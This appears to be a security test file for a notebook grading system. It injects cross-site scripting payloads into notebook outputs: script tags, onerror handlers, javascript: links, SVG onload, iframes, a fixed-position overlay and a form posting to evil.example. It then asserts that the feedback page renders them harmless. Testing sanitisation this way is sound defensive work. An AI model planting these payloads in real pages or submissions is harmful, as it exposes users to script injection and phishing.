"""Puts `<script>`, `onerror`, `javascript:` links, frames, forms and JavaScript into outputs."""

import re

from tests.attacks.course import FULL

PLAIN = "verbatim in the feedback page and in formgrader"
EARNS = FULL
FIRST = [
    "from IPython.display import HTML, SVG, IFrame, Javascript, Latex, Markdown, display\n"
    'bad = \'<script>alert("evil")</script><img src=x onerror=alert("evil")><a href="javascript:alert(1)">x</a>\'\n'
    'bad += \'<form action="https://evil.example"><input name=a></form><div style="position:fixed;top:0">x</div>\'\n'
    "for kind in (HTML, Markdown, Latex, Javascript): display(kind(bad))\n"
    'svg = \'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert("evil")</script></svg>\'\n'
    "display(SVG(svg))\n"
    "display(IFrame('javascript:alert(1)', 100, 100))\n"
    "widget = 'application/vnd.jupyter.widget-view+json'\n"
    "display({'text/html': bad, 'text/vnd.evil+html': bad, widget: {'a': bad}}, raw=True)\n"
    "display({'image/png': '\"><script>alert(\"evil\")</script>', 'text/plain': bad}, raw=True)\n"
    "print(bad)\n"
    "raise ValueError(bad)"
]


def holds(result: object) -> None:
    assert_harmless(result.page)  # type: ignore[attr-defined]


def assert_harmless(page: str) -> None:
    for tag in re.findall(r"<[^!][^>]*>", page):
        assert "onerror" not in tag and "javascript:" not in tag and "evil" not in tag, tag
        assert not re.match(r"<(form|iframe|input name)", tag), tag
        assert "position:fixed" not in tag, tag
    for script in re.findall(r"<script.*?</script>", page, re.DOTALL):
        assert "evil" not in script and "alert(1)" not in script
